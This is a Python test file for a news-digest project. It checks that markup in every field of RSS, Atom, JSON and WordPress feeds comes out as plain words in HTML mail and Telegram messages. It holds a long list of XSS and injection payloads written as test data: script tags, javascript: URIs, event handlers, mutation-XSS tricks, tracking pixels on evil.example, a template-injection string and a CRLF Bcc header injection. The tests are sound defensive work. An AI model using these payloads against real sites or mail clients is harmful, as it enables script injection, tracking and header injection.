"""Markup in every field of every kind of source: nothing of it is markup in a message (E4).

Each sample goes all the way, from the bytes of a source through our readers to a mail, read by an
HTML parser, and a chat message, read by Telegram's own.  Then once more past the readers, as if
they had let it through.
"""

import html
import json
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest

from digest import model
from digest.collect import read
from digest.render import chat, environment, mail
from tests.collect import press
from tests.render import layout, stories, telegram

_MAIL = mail.MailRenderer(environment.Templates(), stories.PUBLICATION)
_CHAT = chat.ChatRenderer(environment.Templates(), stories.PUBLICATION)

SAMPLES = {
    "script": "<script>evil()</script>",
    "script with attributes": '<script src="//evil.example/x.js" async></script>',
    "script, mixed case": "<ScRiPt>evil()</sCrIpT>",
    "script, slash": "<script/x>evil()</script/x>",
    "script, spaces": "<script\n\t>evil()</script\n>",
    "script in script": "<scr<script>ipt>evil()</scr</script>ipt>",
    "script, never closed": "<script>evil()",
    "script, cut in its tag": "<script src=//evil.example/",
    "style": "<style>body{background:url(//evil.example)}</style>",
    "style attribute": '<p style="x:expression(evil());behavior:url(x)">p</p>',
    "style import": "<style>@import'//evil.example/x.css';</style>",
    "iframe": '<iframe src="javascript:evil()"></iframe>',
    "iframe of a document": '<iframe srcdoc="&lt;script&gt;evil()&lt;/script&gt;"></iframe>',
    "object": '<object data="javascript:evil()"></object><embed src="x.swf">',
    "form": '<form action="//evil.example"><input name=a autofocus onfocus=evil()><button>',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "link": '<link rel="stylesheet" href="//evil.example/x.css">',
    "javascript": '<a href="javascript:evil()">x</a>',
    "javascript, entities": '<a href="jav&#x09;ascript&colon;evil()">x</a>',
    "javascript, controls": '<a href="\x01javascript:evil()">x</a>',
    "vbscript": '<a href="vbscript:evil()">x</a>',
    "data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "a chat's own scheme": '<a href="tg://resolve?domain=evil">x</a>',
    "a file": '<a href="file:///etc/passwd">x</a>',
    "handler": '<b onclick="evil()" onmouseover=evil()>b</b>',
    "handler without spaces": '<img/src="x"/onerror=evil()>',
    "handler, broken quotes": '<img src="x` `<script>evil()</script>"` `>',
    "tracker": '<img src="https://evil.example/pixel.gif?reader=1" width=1 height=1>',
    "tracker by background": '<table background="https://evil.example/pixel.gif"><td>x',
    "tracker by set": '<img srcset="https://evil.example/a 1x">',
    "video": '<video poster="//evil.example/x"><source onerror="evil()"></video>',
    "svg": "<svg onload=evil()><use href='//evil.example#x'/></svg>",
    "svg with script": "<svg><script>evil()</script></svg>",
    "svg animation": "<svg><animate attributeName=href to='javascript:evil()'></svg>",
    "math": "<math><mtext><table><mglyph><style><img src onerror=evil()></style></math>",
    "math link": '<math href="javascript:evil()">x</math>',
    "details": "<details open ontoggle=evil()><summary>x</summary></details>",
    "marquee": "<marquee onstart=evil()>x</marquee>",
    "template": "<template><script>evil()</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
    "title element": "<title><img src=x onerror=evil()></title>",
    "textarea": "<textarea></textarea><img src=x onerror=evil()></textarea>",
    "xmp": "<xmp><p></xmp><script>evil()</script></xmp>",
    "plaintext": "<plaintext><script>evil()</script>",
    "comment": "<!--><script>evil()</script>-->",
    "comment, odd end": "<!-- --!><script>evil()</script> -->",
    "comment in comment": "<!-- <!-- --> <script>evil()</script> -->",
    "conditional comment": "<!--[if gte IE 4]><script>evil()</script><![endif]-->",
    "outlook's conditional": "<!--[if mso]><v:rect href='//evil.example'/><![endif]-->",
    "processing instruction": "<?php evil() ?><?xml-stylesheet href='//evil.example'?>",
    "declaration": "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "cdata": "<![CDATA[<script>evil()</script>]]>",
    "never closed": "<div><b><i><a href='https://evil.example'>x",
    "closed too often": "</p></div></td></tr></table></body></html><script>evil()</script>",
    "out of the attribute": "\"><script>evil()</script>",
    "out of the attribute, single": "'><img src=x onerror=evil()>",
    "quotes alone": "\" onmouseover=\"evil()",
    "mutation by namespaces": "<svg></p><style><a id=\"</style><img src=1 onerror=evil()>\">",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img onerror=x>",
    "mutation by a list": "<listing>&lt;img src=x onerror=evil()&gt;</listing>",
    "escaped once": "&lt;script&gt;evil()&lt;/script&gt;",
    "escaped twice": "&amp;lt;script&amp;gt;evil()&amp;lt;/script&amp;gt;",
    "escaped by numbers": "&#60;script&#62;evil()&#60;/script&#62;&#x3c;b onclick=evil()&#x3e;",
    "references without end": "&lt&lt;&#60&#060script>evil()",
    "fullwidth signs": "＜script＞evil()＜/script＞",
    "zero byte": "<scr\x00ipt>evil()</scr\x00ipt>",
    "soft hyphen": "<scr\u00adipt>evil()</scr\u00adipt>",
    "direction override": "\u202etpircs<\u202c<script>evil()</script>",
    "template language": "{{ ''.__class__.__mro__ }}{% for x in y %}{# x #}${7*7}",
    "mail markup": "<mj-raw><script>x()</script></mj-raw></mj-text><mj-include path='/etc/x'/>",
    "chat markup": "<a href='tg://user?id=1'>x</a><tg-spoiler>x</tg-spoiler>*b* [x](tg://y) `c`",
    "new header": "x\r\nBcc: evil@evil.example\r\n\r\n<script>evil()</script>",
}  # fmt: skip


def _rss(sample: str) -> bytes:
    sample = html.escape(sample).replace("\x00", "").replace("\x01", "")
    return f"""<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
      xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
      <channel><title>Paper {sample}</title><link>{sample}</link><item><title>Words {sample}</title>
      <link>{sample}</link><guid>{sample}</guid><description>Words {sample}</description>
      <content:encoded>Words {sample}</content:encoded><dc:creator>Ada {sample}</dc:creator>
      <category>Topic {sample}</category><media:content medium="image" url="{sample}"/>
      <enclosure type="image/png" url="javascript:{sample}"/></item></channel></rss>""".encode()


def _atom(sample: str) -> bytes:
    sample = html.escape(sample).replace("\x00", "").replace("\x01", "")
    return f"""<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">Paper {sample}</title>
      <entry><id>{sample}</id><title type="html">Words {sample}</title><link href="{sample}"/>
      <summary type="html">Words {sample}</summary><content type="html">Words {sample}</content>
      <author><name>Ada {sample}</name></author><category term="{sample}" label="{sample}"/>
      <updated>2026-02-17T09:00:00Z</updated></entry></feed>""".encode()


def _json(sample: str) -> bytes:
    entry = {
        "id": sample, "url": sample, "title": f"Words {sample}", "summary": f"Words {sample}",
        "content_html": f"Words {sample}", "tags": [sample], "image": sample,
        "authors": [{"name": f"Ada {sample}"}],
    }  # fmt: skip
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": f"Paper {sample}"}
    return json.dumps({**feed, "items": [entry]}).encode()


def _wordpress(sample: str) -> bytes:
    words = {"rendered": f"Words {sample}", "protected": False}
    value = press.post(1, "2026-02-17T10:00:00", title=words, content=words, excerpt=words)
    value |= {"link": sample, "guid": {"rendered": sample}}
    value["_embedded"] = {
        "author": [{"name": f"Ada {sample}"}],
        "wp:featuredmedia": [{"source_url": sample}],
        "wp:term": [[{"taxonomy": "category", "name": f"Topic {sample}"}]],
    }
    return json.dumps([value]).encode()


WAYS: dict[str, Callable[[str], bytes]] = {
    "rss": _rss, "atom": _atom, "json": _json, "wordpress": _wordpress
}  # fmt: skip


class _Read(HTMLParser):
    """What an HTML parser makes of a mail: its tags, attributes and words."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self._silent = False
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._silent = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._silent = False

    def handle_data(self, data: str) -> None:
        self.text += "" if self._silent else data

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def _issue(entry: model.Entry) -> model.Issue:
    story = model.Story(
        id=1, entries=(entry,), topics=(), first_at=stories.NOW, updated_at=stories.NOW
    )
    why = f"You follow {next(iter(entry.categories), 'x')} (title: {entry.authors[:1]})"
    return stories.issue(model.IssueItem(story, why, "travel", updated=False))


def _as_mail(issue: model.Issue) -> model.MailParts:
    return _MAIL.issue(issue, stories.EDITION, stories.LINKS, time_zone=stories.TIME_ZONE)


_ALLOWED = _Read(_as_mail(stories.issue(stories.item(1, image="https://a.example/x.jpg"))).html)


def check_mail(issue: model.Issue) -> str:
    """Return the words of the mail, after a look at everything in it that is not words."""
    parts = _as_mail(issue)
    assert "\n" not in parts.subject
    assert "\r" not in parts.subject
    found = _Read(parts.html)
    assert found.tags <= _ALLOWED.tags
    assert {name for name, _ in found.attributes} <= {name for name, _ in _ALLOWED.attributes}
    for name, value in found.attributes:
        if name in ("href", "src"):
            assert urlsplit(value).scheme in ("https", "http", "mailto")
        if name == "style":
            assert "evil" not in value
    assert layout.problems(parts.html) == []
    return found.text


_KINDS = {
    f"textEntityType{kind}"
    for kind in ("Bold", "Italic", "TextUrl", "BlockQuote", "ExpandableBlockQuote")
}


def check_chat(issue: model.Issue) -> str:
    """Return the words of the chat message, after a look at its entities."""
    message = _CHAT.issue(
        issue, stories.EDITION, stories.LINKS, chat_id="42", time_zone=stories.TIME_ZONE
    )
    words = ""
    for part in message.parts:
        answer = telegram.parsed(part.html)
        kinds = {entity["type"]["@type"] for entity in answer["entities"]}
        assert kinds <= _KINDS
        for link in telegram.links_in(answer):
            assert urlsplit(link).scheme in ("https", "http")
        words += answer["text"]
    return words


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_markup_in_every_field_of_a_source_is_none_in_a_message(
    sample: str, way: Callable[[str], bytes]
) -> None:
    """E4: script, style, frames, forms, handlers, trackers and odd schemes, all gone or words."""
    feed = read.parse_document(way(sample), "https://paper.example/feed")
    (entry,) = feed.entries
    assert urlsplit(entry.url).scheme in ("", "https", "http")
    assert urlsplit(entry.image).scheme in ("", "https", "http")
    entry = model.replace(entry, source=feed.title or entry.source)
    issue = _issue(entry)
    assert "Words" in check_mail(issue)
    assert "Words" in check_chat(issue)


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES)
def test_markup_that_came_through_would_be_shown_as_the_words_it_is(sample: str) -> None:
    """E4: a second wall, should a reader ever let something through."""
    words = f"Words {sample}"
    changes: dict[str, Any] = {"title": words, "summary": words, "source": words}
    entry = model.Entry(
        id="1", url="https://a.example/", categories=(words,), authors=(words,), **changes
    )
    issue = _issue(entry)
    assert _visible(words)[:40] in _visible(check_mail(issue))
    assert _visible(words)[:40] in _visible(check_chat(issue))


def _visible(text: str) -> str:
    """What no line can hold becomes a space, or goes."""
    return "".join(sign for sign in text if sign.isprintable() and not sign.isspace())
